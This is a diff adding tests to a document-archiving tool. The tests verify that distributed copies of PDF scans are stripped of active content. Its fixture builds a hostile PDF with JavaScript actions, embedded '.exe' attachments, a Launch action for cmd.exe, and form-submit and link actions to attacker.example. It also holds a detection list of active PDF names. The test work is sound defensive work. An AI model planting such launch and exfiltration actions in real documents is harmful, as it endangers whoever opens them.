@@ -176,3 +176,151 @@ def test_a_template_masking_cannot_reach_is_refused_never_sent(
     assert not [e for e in log if e["action"] in ("delivered", "pulled")]
     r = run("pull", number, "--as", "legal", "-o", out)  # the signed scan, which legal may see
     assert r.exit_code == 0, r
+
+
+# copies of scans carry no active content ---------------------------------------------------------
+
+JS_MARK, FILE_MARK = "docgen-test-script", b"docgen-test-attached-file"
+ACTIVE_NAMES = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/EmbeddedFile", "/EmbeddedFiles",
+                "/XFA", "/AcroForm", "/Annots", "/SubmitForm", "/URI", "/FileAttachment", "/Widget"}
+
+
+def active_scan(clean: Path, out: Path) -> Path:
+    """The scan with every kind of active content a PDF can carry: a script on opening, actions
+    of the document and of a page, a document-level script, an attached file, a launch action,
+    a link running a script, a file-attachment annotation, a form with a submit action, field
+    actions and XFA."""
+    import pikepdf
+    from pikepdf import Array, Dictionary, Name, String
+
+    pdf = pikepdf.open(clean)
+
+    def js(n: str) -> pikepdf.Object:
+        return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript,
+                                            JS=String(f"app.alert('{JS_MARK} {n}')")))
+
+    pdf.Root.OpenAction = js("open")
+    pdf.Root.AA = Dictionary(WC=js("will-close"), WP=js("will-print"))
+    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), js("names")])))
+    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, FILE_MARK + b" via /EmbeddedFiles")
+    page = pdf.pages[0]
+    page.obj.AA = Dictionary(O=js("page-open"), C=js("page-close"))
+    spec = pikepdf.AttachedFileSpec(pdf, FILE_MARK + b" via an annotation", filename="note.exe")
+    field = pdf.make_indirect(Dictionary(
+        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("submit"), Rect=[10, 10, 60, 30],
+        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://attacker.example/collect"))),
+        AA=Dictionary(E=js("field-enter"), K=js("field-keystroke")),
+    ))
+    annots = [
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100],
+                   A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))),
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[100, 0, 200, 100], A=js("link")),
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[200, 0, 300, 100],
+                   A=Dictionary(S=Name.URI, URI=String("http://attacker.example/track"))),
+        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[300, 0, 320, 20], FS=spec.obj,
+                   Contents=String("attached")),
+        field,
+    ]
+    page.obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(a) if not a.is_indirect else a for a in annots]))
+    xfa = pdf.make_stream(f"<xdp:xdp><script>{JS_MARK} xfa</script></xdp:xdp>".encode())
+    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa, NeedAppearances=True)
+    pdf.save(out)
+    return out
+
+
+def active_parts(path: Path) -> set[str]:
+    """What of the active content a PDF still holds: the names, and the script and file
+    marks in any string or (decoded) stream."""
+    import pikepdf
+
+    found: set[str] = set()
+    with pikepdf.open(path) as pdf:
+        for obj in pdf.objects:
+            stack = [obj]
+            while stack:
+                o = stack.pop()
+                if isinstance(o, pikepdf.Name):
+                    found.add(str(o))
+                elif isinstance(o, pikepdf.String):
+                    if JS_MARK in str(o):
+                        found.add("script")
+                elif isinstance(o, pikepdf.Array):
+                    stack.extend(x for x in o if isinstance(x, pikepdf.Object) and not x.is_indirect)
+                elif isinstance(o, pikepdf.Dictionary | pikepdf.Stream):
+                    found.update(o.keys())
+                    stack.extend(v for _k, v in o.items() if isinstance(v, pikepdf.Object) and not v.is_indirect)
+                    if isinstance(o, pikepdf.Stream):
+                        try:
+                            raw = o.read_bytes()
+                        except pikepdf.PdfError:  # an image's own coding (JPEG): as stored
+                            raw = o.read_raw_bytes()
+                        if FILE_MARK in raw:
+                            found.add("attached file")
+                        if JS_MARK.encode() in raw:
+                            found.add("script")
+    return found & (ACTIVE_NAMES | {"script", "attached file"})
+
+
+def test_copies_of_a_scan_carry_no_active_content(scans: Path, archive_dir: Path, tmp_path: Path) -> None:
+    import hashlib
+
+    scan = active_scan(scans / "ht.pdf", scans / "ht-active.pdf")
+    planted = active_parts(scan)
+    assert planted == ACTIVE_NAMES | {"script", "attached file"}  # the attack is all there
+    sha = hashlib.sha256(scan.read_bytes()).hexdigest()
+    scan_images = [p.images[0].data for p in PdfReader(scan).pages]
+    r = run("ingest", scan)
+    assert r.exit_code == 0, r
+    assert "delivered   HT-2026-0001 v2 [signed] to customer (第一联 客户留存), finance (第二联 财务)" in r.stderr
+    out = tmp_path / "pulled"
+    for dept in ("legal", "customer"):
+        assert run("pull", "HT-2026-0001", "--as", dept, "-o", out).exit_code == 0
+    copies = [archive_dir / "outbox" / d / f"HT-2026-0001_v2_{n}联.pdf"
+              for d, n in (("customer", "客户"), ("legal", "法务"), ("finance", "财务"), ("engineering", "工程"))]
+    copies += [out / "HT-2026-0001_v2_法务联.pdf", out / "HT-2026-0001_v2_客户联.pdf"]
+    for copy in copies:
+        assert active_parts(copy) == set(), copy.name
+        reader = PdfReader(copy)
+        assert len(reader.pages) == 6
+    for copy in copies[:2] + copies[4:]:  # the scan itself: its page images, whole
+        pages = PdfReader(copy).pages
+        assert [p.images[0].data for p in pages[1:]] == scan_images[1:]
+    # the archived scan is the file as it came, active content and all
+    version = json.loads(run("show", "HT-2026-0001", "--json").stdout)["versions"][-1]
+    assert version["files"]["scan"]["sha256"] == sha
+    blob = archive_dir / "objects" / sha[:2] / sha
+    assert hashlib.sha256(blob.read_bytes()).hexdigest() == sha
+    assert active_parts(blob) == planted
+    assert run("verify").exit_code == 0
+
+
+def test_a_scan_made_of_images_is_copied_whole(scans: Path, archive_dir: Path) -> None:
+    """Cleaning keeps what a page shows: every page's image, size and turn."""
+    r = run("ingest", scans / "bj.tif")
+    assert r.exit_code == 0, r
+    copy = archive_dir / "outbox" / "customer" / "BJ-2026-0001_v2_客户联.pdf"
+    reader = PdfReader(copy)
+    assert len(reader.pages) == 2 and all(len(p.images) == 1 for p in reader.pages)
+    assert active_parts(copy) == set()
+
+
+def test_cleaning_keeps_inherited_page_attributes(scans: Path, tmp_path: Path) -> None:
+    """A scanner may put the page size, turn and resources on the page tree, not on each page:
+    the cleaned copy shows the same pages."""
+    import pikepdf
+
+    from docgen.distribute import inert_pdf
+
+    src = pikepdf.open(scans / "bj.pdf")
+    tree = src.Root.Pages
+    first = src.pages[0].obj
+    tree.MediaBox, tree.Rotate, tree.Resources = first.MediaBox, 90, first.Resources
+    for page in src.pages:
+        del page.obj["/MediaBox"]
+        del page.obj["/Resources"]
+    src.save(tmp_path / "inherited.pdf")
+    cleaned = tmp_path / "cleaned.pdf"
+    cleaned.write_bytes(inert_pdf((tmp_path / "inherited.pdf").read_bytes()))
+    before, after = scanmaker.render(tmp_path / "inherited.pdf", 40), scanmaker.render(cleaned, 40)
+    assert [im.size for im in after] == [im.size for im in before] and before[0].width > before[0].height
+    assert [im.tobytes() for im in after] == [im.tobytes() for im in before]
